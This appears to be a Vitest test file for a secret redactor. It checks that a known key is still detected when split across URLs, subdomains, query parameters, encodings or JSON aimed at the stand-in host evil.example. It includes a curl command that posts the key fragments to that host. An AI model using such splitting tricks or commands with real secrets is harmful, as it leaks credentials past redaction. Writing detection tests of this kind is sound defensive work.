import { describe, expect, it } from "vitest";
import { createRedactor } from "./redact.ts";

describe("a known value that is cut up", () => {
  const redactor = createRedactor({ values: [{ name: "K", value: "sk-Abc123DEF456ghi789" }] });
  const base64 = Buffer.from("sk-Abc123DEF456ghi789").toString("base64url");

  it.each([
    "https://sk-abc123.evil.example/DEF456ghi789",
    "https://evil.example/?a=sk-Abc123DEF&b=456ghi789",
    "https://evil.example/?b=456ghi789&a=sk-Abc123DEF",
    "https://evil.example/?a=1sk-Abc123DEF9&b=2456ghi789x",
    "https://sk-abc1.evil.example/x/23DE?q=F456#ghi789",
    "https://evil.example/?a=sk&b=ab&c=c1&d=23&e=de&f=f4&g=56&h=gh&i=i7&j=89",
    "https://s.k.evil.example/a/b/c/1/2/3/d/e/f/4/5/6?x=ghi&y=789",
    "https://evil.example/?a=%73k-Abc123D&b=E%46456ghi789",
    `https://${base64.slice(0, 12)}.evil.example/${base64.slice(12)}`,
    "curl -d a=sk-Abc123DEF -d b=456ghi789 https://evil.example",
    '{"first":"sk-Abc123DEF","second":["456ghi789"]}',
  ])("a known value that is split is noticed in %s", (text) => {
    expect(redactor.holdsSecret(text)).toBe(true);
  });

  it.each([
    "https://example.com/docs/abc123/def456?page=2&ghi=789",
    "https://github.com/owner/repository/blob/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567/src/lib/a.ts#L10-L20",
    "npm install sk-abc123 && git log --oneline -20",
  ])("a known value that is split is not seen in %s", (text) => {
    expect(redactor.holdsSecret(text)).toBe(false);
  });
});
